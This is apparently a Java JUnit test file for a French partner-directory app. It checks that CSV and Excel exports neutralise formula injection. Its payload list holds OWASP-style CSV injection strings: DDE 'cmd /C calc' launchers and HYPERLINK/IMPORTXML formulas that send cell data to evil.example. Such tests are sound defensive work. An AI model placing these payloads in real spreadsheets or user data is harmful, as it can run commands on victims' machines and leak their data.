package fr.cress.relais.partners.export;

import fr.cress.relais.app.Relais;
import fr.cress.relais.common.concurrent.Progress;
import fr.cress.relais.exchange.SafeText;
import fr.cress.relais.partners.ConsentBasis;
import fr.cress.relais.partners.Contact;
import fr.cress.relais.partners.Organisation;
import fr.cress.relais.partners.OrganisationKind;
import fr.cress.relais.partners.PartnerService;
import fr.cress.relais.testing.TestStores;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.ss.usermodel.WorkbookFactory;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.Reader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Exported files are safe to open: OWASP's CSV-injection payloads (formulas, DDE, hyperlinks that leak data)
 * stored as names, job titles and organisation names come out as plain text in the .xlsx (cells of type STRING,
 * never FORMULA) and neutralised in the .csv (a leading quote, the text otherwise intact).
 */
class SafeExportsTest {

    /** OWASP « CSV Injection » and the usual DDE payloads. */
    static final List<String> PAYLOADS = List.of(
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example/?d=\"&A1;\"Cliquez ici\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
            "=IMPORTXML(CONCAT(\"http://evil.example/?v=\";A2);\"//a\")",
            "\uFF1D1+1",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1");

    private static final String[] NUMBERS = {"un", "deux", "trois", "quatre", "cinq", "six", "sept", "huit", "neuf"};

    @TempDir
    Path dir;

    private Relais relais;
    private final List<String> stored = new ArrayList<>();
    private final List<String> organisations = new ArrayList<>();

    @BeforeEach
    void payloadsInTheDirectory() {
        relais = TestStores.demoRelais(dir);
        PartnerService partners = relais.partners().partners();
        // A leading tab or line break is trimmed when saved (it is checked by the first test).
        List<String> storable = PAYLOADS.stream().filter(p -> p.equals(p.strip())).toList();
        for (int i = 0; i < storable.size(); i++) {
            String payload = storable.get(i);
            Organisation org = partners.save(new Organisation(null, payload + " (structure " + NUMBERS[i] + ")", null,
                    OrganisationKind.OTHER, null, null, null, "Écouché", null, null, null, null, List.of(), null, 0, null));
            Contact saved = partners.save(new Contact(null, payload, payload + " Lecœur", payload,
                    null, null, null, ConsentBasis.LEGITIMATE_INTEREST, LocalDate.of(2026, 11, 2), false,
                    List.of(org.id()), 0, null));
            stored.add(saved.firstName());
            organisations.add(org.name());
        }
    }

    @AfterEach
    void close() {
        relais.close();
    }

    @Test
    void everyPayloadIsNeutralisedForCsvAndOrdinaryTextIsNot() {
        for (String payload : PAYLOADS) {
            assertThat(SafeText.forCsv(payload)).as(payload).isEqualTo("'" + payload);
        }
        assertThat(SafeText.forCsv("Élodie Lecœur")).isEqualTo("Élodie Lecœur");
        assertThat(SafeText.forCsv("l’Église, 3 rue")).isEqualTo("l’Église, 3 rue");
        assertThat(SafeText.forCsv("")).isEmpty();
    }

    @Test
    void theWorkbookHoldsThePayloadsAsTextNeverAsFormulas() throws Exception {
        Path file = dir.resolve("annuaire.xlsx");
        relais.partners().exporter().write(relais.partners().partners().directory(), null, file, Progress.NONE);

        List<Cell> payloadCells = new ArrayList<>();
        try (Workbook book = WorkbookFactory.create(file.toFile())) {
            for (Sheet sheet : book) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        assertThat(cell.getCellType()).as("%s!%s", sheet.getSheetName(), cell.getAddress())
                                .isNotEqualTo(CellType.FORMULA);
                        if (cell.getCellType() == CellType.STRING && startsWithPayload(cell.getStringCellValue())) {
                            payloadCells.add(cell);
                        }
                    }
                }
            }
            Sheet contacts = book.getSheet("Contacts");
            for (int i = 0; i < stored.size(); i++) {
                String first = stored.get(i);
                Row row = rowWith(contacts, 1, first);
                assertThat(row.getCell(0).getStringCellValue()).isEqualTo(first + " Lecœur");
                assertThat(row.getCell(2).getStringCellValue()).isEqualTo(first);
                assertThat(row.getCell(3).getStringCellValue()).isEqualTo(organisations.get(i));
            }
        }
        assertThat(payloadCells).as("payload cells found in the workbook").hasSizeGreaterThanOrEqualTo(4 * stored.size());
    }

    @Test
    void theCsvIsUtf8WithBomAndSemicolonsAndEveryPayloadIsNeutralised() throws Exception {
        Path file = dir.resolve("annuaire.csv");
        relais.partners().exporter().writeCsv(relais.partners().partners().directory(), file, Progress.NONE);

        byte[] bytes = Files.readAllBytes(file);
        assertThat(Arrays.copyOf(bytes, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        List<CSVRecord> records;
        List<String> header;
        try (Reader in = Files.newBufferedReader(file, StandardCharsets.UTF_8)) {
            assertThat(in.read()).isEqualTo(0xFEFF);
            CSVParser parser = CSVFormat.EXCEL.builder().setDelimiter(';').setHeader().setSkipHeaderRecord(true).get()
                    .parse(in);
            records = parser.getRecords();
            header = parser.getHeaderNames();
        }
        assertThat(header).containsExactly("Nom", "Prénom", "Fonction", "Structure", "Courriel", "Téléphone",
                "Base légale", "Date du consentement", "Modifié le");
        assertThat(records).hasSize(relais.partners().partners().directory().contacts().size());
        Map<String, CSVRecord> byFirstName = records.stream()
                .collect(Collectors.toMap(r -> r.get("Prénom"), r -> r, (a, b) -> a));
        for (int i = 0; i < stored.size(); i++) {
            String first = stored.get(i);
            CSVRecord row = byFirstName.get("'" + first);
            assertThat(row).as(first).isNotNull();
            assertThat(row.get("Nom")).isEqualTo("'" + first + " Lecœur");
            assertThat(row.get("Fonction")).isEqualTo("'" + first);
            assertThat(row.get("Structure")).isEqualTo("'" + organisations.get(i));
            assertThat(row.get("Date du consentement")).isEqualTo("02/11/2026");
        }
        for (CSVRecord row : records) {
            for (String cell : row) {
                assertThat(SafeText.looksLikeFormula(cell)).as("cell %s", cell).isFalse();
            }
        }
        assertThat(records).anySatisfy(r -> assertThat(r.get("Nom")).isEqualTo("Lecœur"));
    }

    private static boolean startsWithPayload(String text) {
        return PAYLOADS.stream().anyMatch(p -> text.startsWith(p.strip()));
    }

    private static Row rowWith(Sheet sheet, int column, String value) {
        for (Row row : sheet) {
            Cell cell = row.getCell(column);
            if (cell != null && cell.getCellType() == CellType.STRING && value.equals(cell.getStringCellValue())) {
                return row;
            }
        }
        throw new AssertionError("no row with " + value + " in " + sheet.getSheetName());
    }
}
